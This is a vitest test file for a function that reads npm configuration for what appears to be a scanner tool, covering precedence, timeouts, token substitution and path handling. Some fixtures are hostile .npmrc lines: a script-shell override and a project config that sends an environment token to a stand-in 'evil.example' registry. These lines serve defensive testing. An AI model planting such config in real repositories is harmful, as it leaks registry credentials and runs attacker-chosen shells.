import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { readNpmConfig } from '../../../scanner/observe/npmrc.ts';

const kept = { ...process.env };
let folder: string;
/** Where toolrisk installs: empty. */
let empty: string;
/** What a user stands in: somebody's repository. */
let project: string;

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'npmrc-'));
  [empty, project] = ['empty', 'project'].map((name) => join(folder, name)) as [string, string];
  mkdirSync(empty);
  mkdirSync(project);
  writeFileSync(join(project, 'package.json'), '{}');
  for (const name of Object.keys(process.env)) if (/^npm_config_/i.test(name)) delete process.env[name];
  process.env.HOME = folder;
  process.env.npm_config_globalconfig = join(folder, 'global');
});
afterEach(() => {
  rmSync(folder, { recursive: true });
  for (const name of Object.keys(process.env)) delete process.env[name];
  Object.assign(process.env, kept);
});

test('the environment wins over the user, the user over the machine', async () => {
  write('global', 'registry=https://global.example/', 'strict-ssl=false');
  write('.npmrc', 'registry = "https://user.example/"', 'https-proxy=http://proxy.example:8080');
  expect(await readNpmConfig(empty)).toMatchObject({
    registry: 'https://user.example/',
    httpsProxy: 'http://proxy.example:8080',
    strictSSL: false,
  });
  process.env.NPM_CONFIG_REGISTRY = 'https://environment.example/';
  expect(await readNpmConfig(empty)).toMatchObject({ registry: 'https://environment.example/' });
});

test('a registry may be silent for as long as the user says, else for half a minute', async () => {
  expect(await readNpmConfig(empty)).toMatchObject({ timeout: 30_000 });
  write('.npmrc', 'fetch-timeout=90000');
  expect(await readNpmConfig(empty)).toMatchObject({ timeout: 90_000 });
});

test('tokens are filled in from the environment and belong to their host', async () => {
  process.env.SHELF_NPM_TOKEN = 'abc';
  write(
    '.npmrc',
    `//shelf.example/:_authToken=\${SHELF_NPM_TOKEN}`,
    `//other.example/:_authToken=\${NOT_SET?}`,
  );
  expect(await readNpmConfig(empty)).toMatchObject({
    '//shelf.example/:_authToken': 'abc',
    '//other.example/:_authToken': '',
  });
});

test('a path may begin at home: certificates are read there, and packages kept', async () => {
  const one = '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----';
  write('ca.pem', one, one);
  write('.npmrc', 'cafile=~/ca.pem', 'cache=~/npmc', 'script-shell=/bin/evil');
  const config = await readNpmConfig(empty);
  expect(config).toMatchObject({ ca: [one, one], cache: join(folder, 'npmc', '_cacache') });
  expect(config).not.toHaveProperty('scriptShell');
});

test('the folder stood in says nothing unless asked', async () => {
  write('.npmrc', 'registry=https://user.example/');
  write('project/.npmrc', 'registry=https://project.example/', '@shelf:registry=https://shelf.example/');
  process.chdir(project);
  try {
    expect(await readNpmConfig(empty)).toMatchObject({ registry: 'https://user.example/' });
    expect(await readNpmConfig(empty)).not.toHaveProperty('@shelf:registry');
  } finally {
    process.chdir(import.meta.dirname);
  }
  expect(await readNpmConfig(empty, project)).toMatchObject({
    registry: 'https://project.example/',
    '@shelf:registry': 'https://shelf.example/',
  });
  process.env.npm_config_registry = 'https://environment.example/';
  expect(await readNpmConfig(empty, project)).toMatchObject({ registry: 'https://environment.example/' });
});

test('when asked it says where packages come from, and nothing else', async () => {
  process.env.SHELF_NPM_TOKEN = 'abc';
  write('.npmrc', 'cache=~/npmc', '//user.example/:_authToken=mine');
  write(
    'project/.npmrc',
    `//evil.example/:_authToken=\${SHELF_NPM_TOKEN}`,
    `registry=https://evil.example/\${SHELF_NPM_TOKEN}/`,
    `\${SHELF_NPM_TOKEN}=x`,
    ...['cache=/evil', 'cafile=/evil', 'ca=evil', 'https-proxy=http://evil.example', 'strict-ssl=false'],
    ...['userconfig=/evil', 'globalconfig=/evil', 'prefix=/evil', 'before=2000-01-01', 'key=evil'],
  );
  const asked = await readNpmConfig(empty, project);
  expect(asked).toEqual({
    ...(await readNpmConfig(empty)),
    registry: `https://evil.example/\${SHELF_NPM_TOKEN}/`,
    '//evil.example/:_authToken': `\${SHELF_NPM_TOKEN}`,
  });
});

test('reading makes no file or folder', async () => {
  write('.npmrc', 'cache=~/npmc');
  await readNpmConfig(empty, project);
  expect(readdirSync(folder).sort()).toEqual(['.npmrc', 'empty', 'project']);
});

function write(name: string, ...lines: string[]): void {
  writeFileSync(join(folder, name), `${lines.join('\n')}\n`);
}
